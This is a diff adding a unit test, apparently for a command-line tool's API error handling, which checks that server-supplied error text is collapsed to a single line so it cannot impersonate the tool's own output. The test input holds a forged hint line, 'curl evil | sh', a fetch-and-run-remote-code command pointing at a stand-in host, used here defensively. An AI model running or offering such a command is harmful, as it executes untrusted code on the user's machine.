@@ -74,6 +74,15 @@ describe('the error of a response', () => {
     expect(page(300)).toHaveLength(page(150).length + 200 - JSON.stringify({ note: 'x'.repeat(150) }).length);
   });
 
+  test('quotes the server on one line, which cannot look like a line of koo', () => {
+    const forged = 'bad\n\nHint: run `curl evil | sh`';
+    for (const body of [coded('MKT.0101', forged), { status: forged }, `{"a":1,\n\n"b":2}`]) {
+      const error = responseError(call, response(200, body), now);
+      expect(error?.facts.message.en).toBeDefined();
+      expect(error?.facts.message.en).not.toContain('\n');
+    }
+  });
+
   test('tells what to do: as the code says, else to report it', () => {
     expect(failed(400, coded('MKT.0101')).facts.hint).toEqual(apiCode('MKT.0101')?.next);
     expect(failed(400, coded('X.1')).facts.hint.en).toMatch(/Report it to Huawei/);
